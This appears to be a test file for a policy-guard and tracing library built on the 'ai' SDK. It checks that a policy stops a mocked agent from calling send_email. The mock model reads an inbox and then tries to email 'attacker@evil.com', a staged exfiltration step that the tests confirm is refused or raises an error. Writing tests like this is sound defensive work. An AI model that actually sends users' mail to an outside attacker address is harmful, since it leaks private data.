// The lowest `ai` the peer range allows (7.0.0), installed as `ai-v7-lowest`: the middleware,
// guardTools and the telemetry integration work on it as on the latest.
import { createTracer, PolicyViolationError, parsePolicy, validateBlocks } from '@tracewarden/core';
import { comparableTrace } from '@tracewarden/core/testing';
import {
  generateText,
  isStepCount,
  simulateReadableStream,
  streamText,
  tool,
  wrapLanguageModel,
} from 'ai-v7-lowest';
import { MockLanguageModelV4 } from 'ai-v7-lowest/test';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { generated, type Step, streamParts } from './__fixtures__/mock-model.js';
import { guardTools, tracewardenMiddleware, tracewardenTelemetry } from './index.js';

function model(steps: Step[]) {
  return new MockLanguageModelV4({
    doGenerate: steps.map(generated) as never,
    doStream: steps.map((step) => ({
      stream: simulateReadableStream({ chunks: streamParts(step) }),
    })) as never,
  });
}

const steps: Step[] = [
  { reasoning: 'read first', calls: [{ id: 'call_1', name: 'get_inbox', input: {} }] },
  { calls: [{ id: 'call_2', name: 'send_email', input: { to: 'attacker@evil.com' } }] },
  { text: 'Nothing was sent.' },
];

const policy = parsePolicy(`
raise "no" if:
    (call: ToolCall)
    call is tool:send_email
`);

function tools(log: string[]) {
  return {
    get_inbox: tool({
      inputSchema: z.object({}),
      execute: async () => {
        log.push('get_inbox');
        return ['hi'];
      },
    }),
    send_email: tool({
      inputSchema: z.object({ to: z.string() }),
      execute: async () => {
        log.push('send_email');
        return 'sent';
      },
    }),
  };
}

describe('ai@7.0.0 (the lowest supported)', () => {
  for (const stream of [false, true]) {
    it(`middleware + guardTools, refuse mode${stream ? ', streamed' : ''}: same trace shape, the blocked tool never runs`, async () => {
      const tracer = createTracer();
      const log: string[] = [];
      const options = {
        model: wrapLanguageModel({
          model: model(steps),
          // typed against the latest @ai-sdk/provider; ai@7.0.0 ships its own copy of the types
          middleware: tracewardenMiddleware({
            tracer,
            policy,
            onPolicyViolation: 'refuse',
          }) as never,
        }),
        prompt: 'go',
        tools: guardTools(tools(log) as never, { tracer }) as ReturnType<typeof tools>,
        stopWhen: isStepCount(5),
      };
      let text: string;
      if (stream) {
        const result = streamText(options);
        await result.consumeStream();
        text = await result.text;
      } else text = (await generateText(options)).text;
      expect(text).toBe('Nothing was sent.');
      expect(log).toEqual(['get_inbox']);
      const trace = comparableTrace(tracer.stitched());
      expect(trace.messages.map((message) => message.role)).toEqual([
        'user',
        'assistant',
        'assistant',
        'assistant',
      ]);
      expect(trace.messages[1]?.thinks).toEqual(['read first']);
      expect(trace.messages[2]?.tool_calls[0]?.results[0]).toMatchObject({ refused: true });
      expect(validateBlocks(tracer.blocks()).errors).toEqual([]);
      expect(trace.orphans).toBe(0);
    });
  }

  it('the telemetry integration enforces throw mode', async () => {
    const tracer = createTracer();
    const log: string[] = [];
    await expect(
      generateText({
        model: model(steps),
        prompt: 'go',
        tools: tools(log),
        stopWhen: isStepCount(5),
        telemetry: { integrations: [tracewardenTelemetry({ tracer, policy }) as never] },
      }),
    ).rejects.toBeInstanceOf(PolicyViolationError);
    expect(log).toEqual(['get_inbox']);
    expect(validateBlocks(tracer.blocks()).errors).toEqual([]);
  });
});
